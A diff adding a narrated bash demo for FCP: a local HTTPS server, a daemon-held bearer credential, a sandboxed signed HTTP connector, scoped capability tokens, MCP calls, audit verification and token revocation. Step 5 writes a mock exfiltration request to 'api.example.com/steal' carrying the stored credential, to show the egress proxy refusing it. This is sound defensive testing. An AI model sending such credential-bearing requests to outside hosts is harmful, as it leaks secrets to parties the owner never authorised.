@@ -1,0 +1,338 @@
+#!/usr/bin/env bash
+# demo-connectors.sh - an agent's call through FCP end to end, narrated.
+#
+#   fcp init -> a local HTTPS server (throwaway certificate) that records the
+#   Authorization header it gets -> a credential fcpd holds ([[credential]],
+#   secret file 0600) -> start fcpd -> install the http connector at runtime
+#   (fcp connector install, publisher-signed) -> an owner grant and a
+#   capability token for http.request limited to localhost:PORT -> fcp invoke
+#   (output, OperationReceipt, audit chain verified, the server saw the
+#   injected credential; the connector never did) -> the same call as an MCP
+#   client makes it (fcp mcp) -> a call outside the grant is refused by the
+#   egress proxy; fcp simulate -> fcp revoke the token -> the next call is
+#   denied with a DecisionReceipt -> stop.
+#
+# Runs from the repository root (make demo-connectors).  Temp dirs, free
+# loopback ports, nothing left running (trap, also on failure or Ctrl-C).
+# Needs python3 and openssl.  FCP_BUILD (default build) is where fcp, fcpd,
+# connector-http and libfcp.a are; NO_COLOR=1 (or a non-terminal stdout)
+# turns colours off; DEMO_KEEP=DIR copies FCP_HOME, the data dir, the
+# server's request log and the throwaway secret there at the end (for
+# tests/e2e/demo_connectors.sh); DEMO_TIMEOUT (default 15) is how many
+# seconds any single wait may take.  The owner's grant and the agent's token
+# are made by scripts/demo-connectors-mint.c (built here against libfcp.a):
+# `fcp token mint` does not yet write grant objects or set network
+# constraints, aud_binary, holder_node and the revocation checkpoint that a
+# Risky operation's token needs.
+set -u
+B=${FCP_BUILD:-${BUILD:-build}}
+FCP=$B/fcp
+FCPD=$B/fcpd
+WAIT=${DEMO_TIMEOUT:-15}
+T=$(mktemp -d /tmp/fcp-demo-conn.XXXXXX)
+chmod 755 "$T"          # the sandboxed connector (uid 65534 under root) must reach its state dir
+H=$T/home
+D=$T/data
+export FCP_HOME=$H
+T0=$(date +%s%N)
+SRV_PID=""
+
+cleanup() {
+    trap - EXIT INT TERM
+    if [ -f "$H/fcpd.pid" ]; then
+        p=$(cat "$H/fcpd.pid" 2>/dev/null)
+        if [ -n "$p" ] && kill -TERM "$p" 2>/dev/null; then
+            # fcpd stops its connectors on SIGTERM; give it 3 s, then KILL
+            for _ in $(seq 60); do kill -0 "$p" 2>/dev/null || break; sleep 0.05; done
+            kill -KILL "$p" 2>/dev/null
+        fi
+    fi
+    [ -n "${CONN_PID:-}" ] && kill -KILL -- "-$CONN_PID" 2>/dev/null
+    if [ -n "$SRV_PID" ]; then kill "$SRV_PID" 2>/dev/null; wait "$SRV_PID" 2>/dev/null; fi
+    if [ -n "${DEMO_KEEP:-}" ]; then
+        mkdir -p "$DEMO_KEEP" && cp -a "$H" "$D" "$T/requests.log" "$T/api.token" "$DEMO_KEEP/" 2>/dev/null
+    fi
+    rm -rf "$T"
+}
+trap cleanup EXIT
+trap 'echo; echo "demo: interrupted" >&2; exit 130' INT
+trap 'exit 143' TERM
+
+if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
+    BOLD=$'\033[1m'; DIM=$'\033[2m'; GREEN=$'\033[32m'; RED=$'\033[31m'; OFF=$'\033[0m'
+else
+    BOLD=""; DIM=""; GREEN=""; RED=""; OFF=""
+fi
+ts() { local n; n=$(date +%s%N); printf '%d.%01d s' $(((n - T0) / 1000000000)) $(((n - T0) / 100000000 % 10)); }
+say() { printf '\n%s[%s] %s%s\n' "$BOLD" "$(ts)" "$*" "$OFF"; }
+note() { printf '    %s%s%s\n' "$DIM" "$*" "$OFF"; }
+good() { printf '    %s%s%s\n' "$GREEN" "$*" "$OFF"; }
+nogo() { printf '    %s%s%s\n' "$RED" "$*" "$OFF"; }
+ind() { sed 's/^/    /'; }
+die() { printf '\n%sdemo: FAILED: %s%s\n' "$RED" "$*" "$OFF" >&2; exit 1; }
+# poll CMD until it succeeds, at most $WAIT seconds; WHAT names it in the error
+wait_for() {
+    local what=$1 end=$(($(date +%s) + WAIT))
+    shift
+    until "$@" >/dev/null 2>&1; do
+        [ "$(date +%s)" -lt $end ] || die "timed out after ${WAIT} s waiting for $what"
+        sleep 0.05
+    done
+}
+jget() { python3 -c "import json,sys; d=json.load(sys.stdin); print(eval(sys.argv[1]))" "$1"; }
+free_port() { python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_'"$1"'); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
+fpr() { printf '%s' "$1" | sha256sum | cut -c1-16; }
+
+for x in "$FCP" "$FCPD" "$B/connector-http" "$B/libfcp.a"; do
+    [ -e "$x" ] || die "build $x first (make)"
+done
+command -v python3 >/dev/null || die "needs python3"
+command -v openssl >/dev/null || die "needs openssl"
+python3 -c "import ssl, http.server" 2>/dev/null || die "needs python3 with ssl"
+
+# the owner's grant and token minting (what `fcp token mint` does not do yet:
+# grant objects, network constraints, aud_binary, holder, checkpoint)
+LIBS="$(sed -n 's/^LDLIBS  *:= *//p' Makefile | sed 's/\\$//') $(sed -n '/^LDLIBS  *:=.*\\$/{n;p}' Makefile)"
+SAN=""
+case "$B" in *asan*) SAN="-fsanitize=address,undefined -fno-omit-frame-pointer" ;; esac
+# shellcheck disable=SC2086
+${CC:-cc} -std=c11 -D_GNU_SOURCE -O1 $SAN -Iinclude -o "$T/mint" scripts/demo-connectors-mint.c "$B/libfcp.a" $LIBS \
+    2>"$T/cc.log" || { cat "$T/cc.log" >&2; die "building scripts/demo-connectors-mint.c"; }
+MINT=$T/mint
+
+# split a zone's audit chain (concatenated canonical CBOR AuditEvents) into
+# one file per event: DIR/0.cbor, DIR/1.cbor, ...; prints the count
+cat >"$T/split.py" <<'EOF'
+import sys
+b = open(sys.argv[1], "rb").read()
+def skip(i):
+    ib = b[i]; mt, ai = ib >> 5, ib & 31; i += 1
+    if ai < 24: v = ai
+    elif ai in (24, 25, 26, 27):
+        n = 1 << (ai - 24); v = int.from_bytes(b[i:i + n], "big"); i += n
+    else: raise SystemExit("indefinite length in an audit chain")
+    if mt in (2, 3): return i + v
+    if mt == 4:
+        for _ in range(v): i = skip(i)
+    elif mt == 5:
+        for _ in range(2 * v): i = skip(i)
+    elif mt == 6: i = skip(i)
+    return i
+i = n = 0
+while i < len(b):
+    j = skip(i)
+    open("%s/%d.cbor" % (sys.argv[2], n), "wb").write(b[i:j])
+    i, n = j, n + 1
+print(n)
+EOF
+# `fcp cbor diag` output on stdin -> "key value  key value" for the keys named
+# (byte strings as hex)
+cat >"$T/pick.py" <<'EOF'
+import json, re, sys
+t = sys.stdin.read().split("\ncanonical:")[0]
+d = json.loads(re.sub(r"h'([0-9a-f]*)'", r'"\1"', t))
+print("  ".join("%s %s" % (k, d[k]) for k in sys.argv[1:] if k in d))
+EOF
+pick() { "$FCP" cbor diag "$1" | python3 "$T/pick.py" "${@:2}"; }
+chain() {   # split the z:private chain into $T/chain; prints the count
+    rm -rf "$T/chain" && mkdir -p "$T/chain" && python3 "$T/split.py" "$D/audit/z_private.cbor" "$T/chain"
+}
+
+# ----------------------------------------------------------------------- 1
+say "1. fcp init: an FCP home (owner, node keys, zone keys) in $T; a local HTTPS API"
+UP=$(free_port DGRAM)
+"$FCP" init --home "$H" --node-id demo-node --listen 127.0.0.1:$UP --data-dir "$D" | ind ||
+    die "fcp init"
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 \
+    -subj "/CN=localhost" -addext "subjectAltName=DNS:localhost" \
+    -keyout "$T/server.key" -out "$T/server.crt" >/dev/null 2>&1 || die "openssl req"
+cat >"$T/server.py" <<'EOF'
+# The demo's API: HTTPS on 127.0.0.1 (free port), answers JSON, and logs each
+# request as "METHOD PATH auth=<sha256 of the Authorization header, 16 hex>"
+# (never the header itself).  argv: key cert portfile logfile
+import hashlib, http.server, json, ssl, sys
+key, cert, portfile, logfile = sys.argv[1:5]
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        a = self.headers.get("Authorization")
+        fp = hashlib.sha256(a.encode()).hexdigest()[:16] if a else "none"
+        with open(logfile, "a") as f:
+            f.write("%s %s auth=%s\n" % (self.command, self.path, fp))
+        body = json.dumps({"service": "demo-api", "path": self.path,
+                           "authorized": a is not None, "weather": "sunny, 21 C"}).encode()
+        self.send_response(200 if a else 401)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *args):
+        pass
+s = http.server.HTTPServer(("127.0.0.1", 0), H)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(cert, key)
+s.socket = ctx.wrap_socket(s.socket, server_side=True)
+open(portfile + ".tmp", "w").write(str(s.server_address[1]))
+import os; os.rename(portfile + ".tmp", portfile)
+s.serve_forever()
+EOF
+: >"$T/requests.log"
+python3 "$T/server.py" "$T/server.key" "$T/server.crt" "$T/port" "$T/requests.log" 2>"$T/server.err" &
+SRV_PID=$!
+wait_for "the HTTPS server to listen" test -s "$T/port"
+PORT=$(cat "$T/port")
+wait_for "the HTTPS server to answer" python3 -c "
+import socket,ssl,sys
+c=ssl.create_default_context(cafile='$T/server.crt')
+with socket.create_connection(('127.0.0.1',$PORT),timeout=2) as s:
+    with c.wrap_socket(s,server_hostname='localhost'): pass"
+note "HTTPS API at https://localhost:$PORT (certificate for 'localhost', made with openssl just now)"
+
+# ----------------------------------------------------------------------- 2
+say "2. a credential fcpd keeps: the secret is a 0600 file, the connector only knows its id"
+SECRET="demo-$(openssl rand -hex 16)"
+printf '%s\n' "$SECRET" >"$T/api.token"
+chmod 600 "$T/api.token"
+cat >>"$H/fcpd.toml" <<EOF
+
+[[credential]]
+id = "cred:demo.api"
+secret_file = "$T/api.token"
+apply = "header"
+name = "authorization"
+prefix = "Bearer "
+host_allow = ["localhost"]
+EOF
+sed -n '/^\[\[credential\]\]/,$p' "$H/fcpd.toml" | ind
+note "secret fingerprint (sha256 of 'Bearer <secret>', 16 hex): $(fpr "Bearer $SECRET")"
+# fcpd trusts the demo certificate for egress (a private CA; docs/connectors.md)
+export FCPD_EGRESS_CA_FILE=$T/server.crt
+"$FCPD" --daemon || die "fcpd did not start"
+wait_for "fcpd to answer on its admin socket" "$FCP" status
+note "fcpd is running (pid $(cat "$H/fcpd.pid")); FCPD_EGRESS_CA_FILE=$T/server.crt"
+
+say "   install the http connector at runtime: fcp connector install (publisher-signed)"
+# the reference connectors' TEST publisher key (seed a0 a1 .. bf); a real
+# publisher ships this signature with its connector
+python3 -c "print(''.join('%02x'%(0xa0+i) for i in range(32)))" >"$T/publisher.seed"
+SIG=$("$FCP" connector sign --manifest connectors/http/manifest.toml --binary "$B/connector-http" \
+    --key "$T/publisher.seed") || die "fcp connector sign"
+note "publisher signature ${SIG:0:32}..."
+"$FCP" connector install --manifest connectors/http/manifest.toml --binary "$B/connector-http" \
+    --signature "$SIG" | ind || die "fcp connector install"
+conn() { "$FCP" connector show fcp.http --json 2>/dev/null | jget "d['connectors'][0]$1"; }
+is_active() { [ "$(conn "['state']")" = active ]; }
+wait_for "fcp.http to become active" is_active
+"$FCP" connector list | ind
+BIN=$(conn "['runtime']['binary_id']")
+CONN_PID=$(conn "['runtime']['pid']")
+note "running sandboxed (pid $CONN_PID) in an empty network namespace: it cannot open a socket"
+note "binary id $BIN"
+
+# ----------------------------------------------------------------------- 3
+say "3. the owner grants http.request on localhost:$PORT; a token for the agent"
+mkdir -p "$H/grants"
+"$MINT" grant "$H" z:private http.request localhost "$PORT" cred:demo.api "$H/grants/http.request.cap" ||
+    die "grant"
+note "grant: owner-signed CapabilityObject $H/grants/http.request.cap"
+note "       host_allow [localhost], port_allow [$PORT], credential_allow [cred:demo.api], 24 h"
+REV=$("$FCP" revoke --status --json) || die "fcp revoke --status"
+CHK_SEQ=$(echo "$REV" | jget "d.get('seq',0)")
+CHK_ID=$(echo "$REV" | jget "d.get('head','0'*64)")
+"$MINT" token "$H" z:private fcp.http http.request http_request "$H/grants/http.request.cap" "$T/agent.tok" \
+    "$BIN" demo-node --ttl 600 --chk-seq "$CHK_SEQ" --chk-id "$CHK_ID" || die "token"
+"$FCP" token inspect "$T/agent.tok" | ind || die "fcp token inspect"
+TOKEN_ID=$("$FCP" token inspect "$T/agent.tok" --json | jget "d['token_id']")
+
+# ----------------------------------------------------------------------- 4
+say "4. fcp invoke fcp.http http_request: the agent's call"
+cat >"$T/call.json" <<EOF
+{"method":"GET","url":"https://localhost:$PORT/v1/weather?city=Lisbon","credential_id":"cred:demo.api"}
+EOF
+note "input: $(cat "$T/call.json")"
+OUT=$("$FCP" invoke fcp.http http_request --input "$T/call.json" --token "$T/agent.tok" --json) ||
+    { echo "$OUT" | ind; die "fcp invoke"; }
+echo "$OUT" | jget "'output  ' + d['output']" | ind
+RECEIPT=$(echo "$OUT" | jget "d['receipt_id']")
+good "receipt $RECEIPT  (signed OperationReceipt, $D/receipts/$RECEIPT.cbor)"
+"$FCP" audit verify --zone z:private | ind || die "fcp audit verify"
+N=$(chain) || die "reading the audit chain"
+note "the last audit event (event $((N - 1)) of the chain; a signed AuditEvent):"
+pick "$T/chain/$((N - 1)).cbor" seq event_type connector_id operation actor signer | ind
+LAST_RESULT=$(pick "$T/chain/$((N - 1)).cbor" result_object_id)
+[ "${LAST_RESULT#result_object_id }" = "$RECEIPT" ] || die "the last audit event does not name the receipt"
+good "its result_object_id is the receipt id ${RECEIPT:0:16}..."
+SEEN=$(tail -n 1 "$T/requests.log")
+note "the server's log: $SEEN"
+if [ "${SEEN##*auth=}" = "$(fpr "Bearer $SECRET")" ]; then
+    good "the server got 'Authorization: Bearer <secret>' (fingerprint $(fpr "Bearer $SECRET")), injected by fcpd's egress proxy"
+else
+    die "the server did not get the credential (log: $SEEN)"
+fi
+LEAK=$(grep -rlF -- "$SECRET" "$D" "$H" 2>/dev/null | grep -v "$T/api.token" || true)
+[ -z "$LEAK" ] || die "the secret appears in $LEAK"
+good "the secret is in no log, receipt, audit event or connector state under $D"
+
+say "   the same call as an agent makes it: MCP over stdio (fcp mcp)"
+note "an MCP client (agent host) spawns: fcp mcp --token agent.tok  (FCP_HOME=$H)"
+ARGS=$(python3 -c "import json,sys; print(json.dumps(json.load(open(sys.argv[1]))))" "$T/call.json")
+MCP=$(printf '%s\n' \
+    '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"demo-agent","version":"1"}}}' \
+    '{"jsonrpc":"2.0","method":"notifications/initialized"}' \
+    '{"jsonrpc":"2.0","id":2,"method":"tools/list"}' \
+    "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"fcp.http.http_request\",\"arguments\":$ARGS}}" |
+    timeout "$WAIT" "$FCP" mcp --token "$T/agent.tok") || die "fcp mcp"
+echo "$MCP" | python3 -c "
+import json,sys
+for l in sys.stdin:
+    m=json.loads(l)
+    if m.get('id')==2: print('tools/list  ->', ', '.join(t['name'] for t in m['result']['tools']))
+    if m.get('id')==3:
+        r=m['result']; o=r.get('structuredContent') or {}
+        print('tools/call  -> isError %s, status %s, receipt %s' % (str(r.get('isError', False)).lower(),
+              o.get('status'), r.get('_meta', {}).get('fcp/receipt_id', '?')))
+" | ind
+note "server log: $(tail -n 1 "$T/requests.log")"
+
+# ----------------------------------------------------------------------- 5
+say "5. a call outside the grant: the egress proxy refuses it (and fcp simulate)"
+echo '{"method":"GET","url":"https://api.example.com/steal","credential_id":"cred:demo.api"}' >"$T/evil.json"
+note "input: $(cat "$T/evil.json")"
+N0=$(wc -l <"$T/requests.log")
+OUT=$("$FCP" invoke fcp.http http_request --input "$T/evil.json" --token "$T/agent.tok" --json)
+[ $? -ne 0 ] || die "the call outside the grant was allowed"
+EGRESS_CODE=$(echo "$OUT" | jget "d['code']")
+nogo "refused: $EGRESS_CODE $(echo "$OUT" | jget "d.get('error','')")"
+note "(the token allows the operation, so the call ran; the proxy stopped the request before DNS)"
+OUT=$("$FCP" simulate fcp.http http_request --input "$T/call.json" --token "$T/agent.tok") ||
+    die "fcp simulate"
+echo "fcp simulate (the allowed call): $OUT" | ind
+[ "$(wc -l <"$T/requests.log")" -eq "$N0" ] || die "the server saw a request it should not have"
+note "the server saw no request from either"
+
+# ----------------------------------------------------------------------- 6
+say "6. fcp revoke the agent's token; its next call is denied"
+"$FCP" revoke "$T/agent.tok" --reason "demo: the agent's job is done" | ind || die "fcp revoke"
+OUT=$("$FCP" invoke fcp.http http_request --input "$T/call.json" --token "$T/agent.tok" --json)
+[ $? -ne 0 ] || die "the revoked token was accepted"
+REVOKED_CODE=$(echo "$OUT" | jget "d['code']")
+DR=$(echo "$OUT" | jget "d.get('decision_receipt','')")
+nogo "denied: $REVOKED_CODE $(echo "$OUT" | jget "d.get('error','')")"
+[ -n "$DR" ] || die "no DecisionReceipt"
+note "DecisionReceipt ($((${#DR} / 2)) bytes, signed by demo-node): ${DR:0:64}..."
+"$FCP" cbor diag --hex - <<<"$DR" | python3 "$T/pick.py" decision reason_code explanation decided_by | ind
+"$FCP" audit verify --zone z:private | ind || die "fcp audit verify"
+N=$(chain) || die "reading the audit chain"
+note "the zone's audit chain now:"
+for i in $(seq 0 $((N - 1))); do pick "$T/chain/$i.cbor" seq event_type operation actor | ind; done
+
+# ----------------------------------------------------------------------- 7
+say "7. stop: fcpd and its connector, the HTTPS server"
+"$FCP" node stop | ind
+wait_for "fcpd to exit" test ! -f "$H/fcpd.pid"
+kill -0 -- "-$CONN_PID" 2>/dev/null && die "the connector outlived fcpd"
+kill "$SRV_PID" 2>/dev/null
+wait "$SRV_PID" 2>/dev/null
+SRV_PID=""
+note "nothing left running"
+echo "demo summary: receipt=$RECEIPT token=$TOKEN_ID egress_denied=$EGRESS_CODE revoked=$REVOKED_CODE"
+say "done in $(ts)"
